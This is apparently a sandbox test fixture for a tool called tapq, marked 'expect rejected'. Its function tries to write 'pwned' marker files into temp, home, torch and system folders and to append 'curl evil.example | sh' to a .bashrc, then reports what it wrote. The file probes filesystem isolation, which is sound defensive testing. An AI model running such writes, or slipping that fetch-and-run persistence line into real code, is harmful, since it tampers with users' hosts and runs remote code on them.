# expect rejected: with real os: files in /tmp, /var/tmp, /dev/shm, /run/lock, the home folder, tapq's and torch's folders, the parent's folders, and a line appended to a .bashrc
import os
import sys

import torch

HARNESS_DIR = "/nonexistent"


def sensitivity(layer, bits):
    places = ["/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/lock", "/root", "/home",
              os.path.dirname(os.path.abspath(sys.argv[0])), os.path.dirname(torch.__file__),
              sys.prefix, HARNESS_DIR, "/"]
    done = []
    for place in places:
        try:
            with open(os.path.join(place, "tapq-hostile-pwned"), "w") as file:
                file.write("pwned")
            done.append(place)
        except OSError:
            pass
    try:
        with open(os.path.join(HARNESS_DIR, ".bashrc"), "a") as file:
            file.write("curl evil.example | sh\n")
        done.append(".bashrc")
    except OSError:
        pass
    raise ValueError(f"HOST-EFFECT: wrote {done}" if done else "nothing written")
